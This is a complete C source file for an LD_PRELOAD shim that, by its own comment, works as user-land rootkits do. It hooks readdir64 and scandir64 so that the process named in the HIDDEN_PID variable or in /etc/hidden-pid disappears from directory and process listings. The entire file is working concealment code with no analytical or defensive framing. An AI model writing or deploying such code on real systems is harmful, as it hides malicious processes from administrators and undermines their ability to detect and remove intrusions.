/* Preloaded, it leaves the process HIDDEN_PID, or the one named in /etc/hidden-pid, out of every listing by the C library, as user-land rootkits do. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int hidden(const char *name) {
  static char pid[32];
  if (pid[0] == 0) {
    const char *given = getenv("HIDDEN_PID");
    FILE *file = given ? NULL : fopen("/etc/hidden-pid", "r");
    strncpy(pid, given ? given : "-", sizeof pid - 1);
    if (file != NULL) {
      if (fscanf(file, "%31s", pid) != 1) strcpy(pid, "-");
      fclose(file);
    }
  }
  return strcmp(name, pid) == 0;
}

struct dirent64 *readdir64(DIR *dir) {
  static struct dirent64 *(*real)(DIR *);
  if (real == NULL) real = dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *entry = real(dir);
  while (entry != NULL && hidden(entry->d_name)) entry = real(dir);
  return entry;
}

int scandir64(const char *path, struct dirent64 ***list, int (*filter)(const struct dirent64 *),
              int (*compare)(const struct dirent64 **, const struct dirent64 **)) {
  static int (*real)(const char *, struct dirent64 ***, int (*)(const struct dirent64 *), int (*)(const struct dirent64 **, const struct dirent64 **));
  if (real == NULL) real = dlsym(RTLD_NEXT, "scandir64");
  int n = real(path, list, filter, compare), kept = 0;
  for (int i = 0; i < n; i++) {
    if (hidden((*list)[i]->d_name)) free((*list)[i]);
    else (*list)[kept++] = (*list)[i];
  }
  return n < 0 ? n : kept;
}
